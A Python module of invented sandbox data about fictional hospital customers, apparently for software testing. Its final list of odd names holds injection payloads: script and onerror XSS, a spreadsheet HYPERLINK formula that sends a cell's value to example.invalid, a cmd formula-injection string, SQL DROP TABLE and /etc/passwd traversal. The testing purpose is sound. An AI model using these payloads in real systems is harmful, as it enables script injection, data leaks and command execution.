"""The words that the sandbox's data is made of. All of it is invented; nothing here is a real customer, person or site."""

from __future__ import annotations

from typing import NamedTuple


class Region(NamedTuple):
    """A sales region: its weight among all customers, country, time zone, places, and how names are built there."""

    name: str
    weight: float
    country: str
    timezone: str
    places: tuple[str, ...]
    patterns: tuple[str, ...]


_US = (
    "{p} Medical Center", "{p} General Hospital", "{p} Imaging Associates", "{p} Radiology Group",
    "{p} Regional Health", "{p} Community Hospital", "St. Brigid Hospital of {p}", "Mercy Vale Health {p}",
    "University Hospital {p}", "{p} Diagnostic Imaging", "{p} Women's Imaging Center",
    "{p} Orthopedic & Sports Imaging", "{p} Outpatient MRI", "Children's Hospital of {p}",
)  # fmt: skip

_STEMS = (
    "Ash", "Bram", "Cedar", "Dun", "East", "Fair", "Glen", "Har", "Iron", "Kings", "Lin", "Maple", "North", "Oak", "Pine",
    "Quarry", "Red", "Silver", "Thorn", "Wal", "West", "Win", "Elk", "Copper", "Stone",
)  # fmt: skip
_ENDINGS = (
    "brook", "field", "ford", "haven", "mont", "port", "ridge", "side", "ton",
    "vale", "view", "wood", "well", " Falls", " Creek",
)  # fmt: skip
_US_PLACES = tuple(stem + ending for ending in _ENDINGS for stem in _STEMS)

REGIONS = (
    Region(
        "northeast",
        0.20,
        "US",
        "America/New_York",
        _US_PLACES[0::5],
        _US,
    ),
    Region(
        "southeast",
        0.17,
        "US",
        "America/New_York",
        _US_PLACES[1::5],
        _US,
    ),
    Region(
        "midwest",
        0.16,
        "US",
        "America/Chicago",
        _US_PLACES[2::5],
        _US,
    ),
    Region(
        "southwest",
        0.11,
        "US",
        "America/Phoenix",
        _US_PLACES[3::5],
        _US,
    ),
    Region(
        "west",
        0.14,
        "US",
        "America/Los_Angeles",
        _US_PLACES[4::5],
        _US,
    ),
    Region(
        "canada",
        0.05,
        "CA",
        "America/Toronto",
        ("Trois-Rives", "Maple Ridge", "Lac-Bleu", "Stonehaven", "Saint-Aubin"),
        ("{p} General Hospital", "Hôpital de {p}", "Centre d'imagerie {p}", "{p} Health Sciences"),
    ),
    Region(
        "uk-ireland",
        0.05,
        "GB",
        "Europe/London",
        ("Ashbourne", "Kilbrannan", "Thornbury", "Wexcombe", "Llanfair Newydd", "Baile Átha"),
        ("{p} Royal Infirmary", "{p} NHS Foundation Trust", "{p} Diagnostic Centre", "Queen's Hospital {p}"),
    ),
    Region(
        "dach",
        0.04,
        "DE",
        "Europe/Berlin",
        ("Mühlbach", "Königsfeld", "Grünau", "Sankt Veit", "Überlingen-Nord", "Weißensee"),
        ("Klinikum {p}", "Universitätsspital {p}", "Radiologie Zentrum {p}", "Gemeinschaftspraxis für Radiologie {p}"),
    ),
    Region(
        "france-benelux",
        0.025,
        "FR",
        "Europe/Paris",
        ("Saint-Émilien", "Clairvaux", "Montfleur", "Brugelles"),
        ("CHU de {p}", "Clinique {p}", "Centre d'Imagerie Médicale de {p}"),
    ),
    Region(
        "iberia-latam",
        0.025,
        "ES",
        "Europe/Madrid",
        ("Peñalba", "Ciudad Nueva", "São Bento", "Villa María", "Logroñera"),
        ("Hospital Universitario de {p}", "Clínica {p}", "Diagnóstico por Imagen {p}", "Hospital São Lucas {p}"),
    ),
    Region(
        "eastern-europe",
        0.008,
        "PL",
        "Europe/Warsaw",
        ("Żółkiewo", "Новоград", "Східний", "Háj nad Vodou"),
        ("Szpital Miejski {p}", "Городская больница {p}", "Лікарня {p}", "Nemocnice {p}"),
    ),
    Region(
        "mena",
        0.008,
        "AE",
        "Asia/Dubai",
        ("النخيل", "الواحة", "المدينة الجديدة", "גבעת האור"),
        ("مستشفى {p}", "مركز الأشعة {p}", "בית חולים {p}", "{p} Imaging Centre"),
    ),
    Region(
        "apac",
        0.014,
        "JP",
        "Asia/Tokyo",
        ("桜ヶ丘", "青葉", "新河", "한빛", "नवग्राम", "บางสวน"),
        ("{p}総合病院", "{p}画像診断センター", "{p}医院放射科", "{p} 영상의학과의원", "{p} Diagnostic Centre"),
    ),
)

#: (value, weight). The department of the metadata; its title form ends many names.
DEPARTMENTS = (
    ("radiology", 0.44),
    ("cardiology", 0.10),
    ("orthopedics", 0.09),
    ("emergency", 0.08),
    ("oncology", 0.07),
    ("neurology", 0.06),
    ("womens_imaging", 0.06),
    ("pediatrics", 0.04),
    ("nuclear_medicine", 0.03),
    ("teleradiology", 0.03),
)

CONTRACTS = (("standard", 0.48), ("enterprise", 0.24), ("msa-2023", 0.12), ("pilot", 0.09), ("month-to-month", 0.07))
TIERS = (("silver", 0.42), ("gold", 0.28), ("bronze", 0.22), ("platinum", 0.08))
PACS_VENDORS = (("Northlight", 0.34), ("OpenFrame", 0.26), ("Vistara", 0.18), ("Clarion PACS", 0.14), ("in-house", 0.08))
EMRS = (("Hearthstone", 0.41), ("MediChart", 0.27), ("Corvus EHR", 0.2), ("paper", 0.04), ("other", 0.08))
BILLING = (("annual", 0.52), ("monthly", 0.33), ("per-study", 0.12), ("none", 0.03))
ACCOUNT_MANAGERS = (
    "Ana Ferreira",
    "Bashir Qureshi",
    "Chloé Marchand",
    "Daniel O'Rourke",
    "Eun-ji Park",
    "Freya Lindqvist",
    "Grace Adeyemi",
    "Hiroshi Tanabe",
    "Inês Carvalho",
    "Jörg Weißmann",
    "Katarzyna Żak",
    "Luis Peña",
)

#: The long tail: every pair of these words is one rare metadata key (18 x 15 = 270 of them).
TAIL_SYSTEMS = (
    "hl7",
    "dicom",
    "vpn",
    "sso",
    "billing",
    "legacy",
    "crm",
    "migration",
    "qa",
    "training",
    "support",
    "worklist",
    "archive",
    "dictation",
    "teleread",
    "contract",
    "security",
    "network",
)
TAIL_FACTS = (
    "id",
    "owner",
    "contact",
    "port",
    "host",
    "status",
    "date",
    "notes",
    "ticket",
    "version",
    "region_code",
    "batch",
    "priority",
    "review",
    "exception",
)

PROCEDURES = (
    ("CT Chest", "CT"),
    ("CT Abdomen and Pelvis with Contrast", "CT"),
    ("MRI Brain with Contrast", "MR"),
    ("MRI Lumbar Spine", "MR"),
    ("XR Chest 2 Views", "DX"),
    ("XR Knee Left", "DX"),
    ("US Abdomen Complete", "US"),
    ("Mammogram Screening Bilateral", "MG"),
    ("PET-CT Skull to Thigh", "PT"),
    ("NM Bone Scan", "NM"),
)

#: Names that a careless program would render, run, cut or sort wrongly. About one customer in a hundred has one of them.
#: example.invalid can never resolve (RFC 2606): a request to it is a bug.
ODDITIES = (
    "<script>fetch('https://example.invalid/x')</script> Imaging",
    "**Bold** Radiology [click here](https://example.invalid/login)",
    "![logo](https://example.invalid/pixel.png) Medical Group",
    '=HYPERLINK("https://example.invalid/?k="&A1,"Open record")',
    "مركز الأشعة التشخيصية - قسم الرنين المغناطيسي",
    "Sunrise Imaging \U0001f3e5 \U0001fa7b",
    "$\\frac{patients}{beds}$ Analytics & Imaging",
    "Abcdefghij Regional Consortium of Imaging, Radiology, Nuclear Medicine and Diagnostic Services " * 3 + "(Main)",
    '<img src="https://example.invalid/a.png" onerror="alert(1)"> Clinic',
    "+1-800-555-0100 Mobile X-Ray",
    "-2+3 Imaging Partners",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    ":red[Urgent] :material/delete: Radiology",
    "# Heading Hospital",
    "בית החולים הר הזיתים - מחלקת רדיולוגיה",
    "Left-to-\u202eright-to-left\u202c Diagnostics",
    "東京国際画像診断センター・放射線科",
    "X",
    'O\'Brien & Sons "Quality" X-Ray; Inc., (2nd)',
    "\tTabbed Imaging",
    "Two\nLines Imaging",
    "Zero\u200bWidth\u200bSpace Imaging",
    "DO NOT USE - test customer",
    "test",
    "Nullmann Radiologie: null",
    "null",
    "00123",
    "1e5",
    "2024-02-30",
    "TRUE",
    "  Padded Imaging  ",
    "a\u0301\u0323\u0308 combining Imaging \U0001f468\u200d\u2695\ufe0f",
    "{{ 7*7 }} ${7*7} %s %d Imaging",
    "'; DROP TABLE customers; --",
    "../../etc/passwd Imaging",
    "https://example.invalid/not-a-link Imaging",
    "| a | b |\n|---|---|\n| table | name |",
    "&lt;b&gt;Escaped&lt;/b&gt; &amp; Imaging",
    "Ιατρικό Κέντρο Απεικόνισης Αθηνών",
    "ＦＵＬＬＷＩＤＴＨ Imaging",
)
